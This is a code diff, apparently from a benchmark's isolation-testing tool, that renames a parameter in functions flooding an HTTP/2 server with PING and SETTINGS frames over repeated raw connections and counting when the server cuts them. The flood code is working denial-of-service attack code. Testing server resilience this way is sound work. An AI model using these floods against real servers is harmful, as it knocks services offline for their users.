@@ -5,7 +5,7 @@ import struct
 from collections.abc import AsyncIterator
 from contextlib import asynccontextmanager, suppress
 
-from licorne_tools.bench.isolation.attack import Act, Ground
+from licorne_tools.bench.isolation.attack import Act, Site
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 HEADER = struct.Struct("!HBBBI")
@@ -23,36 +23,36 @@ def frame(kind: int, content: bytes = b"") -> bytes:
 
 
 @asynccontextmanager
-async def ping(ground: Ground) -> AsyncIterator[Act]:
+async def ping(site: Site) -> AsyncIterator[Act]:
     """PING frames as fast as they are taken, on a new connection whenever one is cut."""
-    yield lambda: flood(ground, frame(PING, bytes(PING_BYTES)))
+    yield lambda: flood(site, frame(PING, bytes(PING_BYTES)))
 
 
 @asynccontextmanager
-async def settings(ground: Ground) -> AsyncIterator[Act]:
+async def settings(site: Site) -> AsyncIterator[Act]:
     """Empty SETTINGS frames as fast as they are taken, on a new connection whenever one is cut."""
-    yield lambda: flood(ground, frame(SETTINGS))
+    yield lambda: flood(site, frame(SETTINGS))
 
 
-async def flood(ground: Ground, one: bytes) -> None:
+async def flood(site: Site, one: bytes) -> None:
     """Send this frame; a connection that the server cuts counts as a refusal."""
-    host, _, port = ground.target.rpartition(":")
-    most = ground.part(FRAMES)
-    for _ in range(ground.part(CONNECTIONS)):
-        if ground.acts >= most:
+    host, _, port = site.target.rpartition(":")
+    most = site.part(FRAMES)
+    for _ in range(site.part(CONNECTIONS)):
+        if site.acts >= most:
             break
         reader, writer = await asyncio.open_connection(host, int(port))
         reading = asyncio.create_task(discard(reader))
         try:
             writer.write(PREFACE + frame(SETTINGS))
-            while ground.acts < most and not reading.done():
+            while site.acts < most and not reading.done():
                 writer.write(one * FRAMES_AT_ONCE)
                 await writer.drain()
-                ground.acts += FRAMES_AT_ONCE
+                site.acts += FRAMES_AT_ONCE
         except ConnectionError:
             pass
         finally:
-            ground.refused += reading.done()
+            site.refused += reading.done()
             reading.cancel()
             writer.close()
             with suppress(ConnectionError, asyncio.CancelledError):
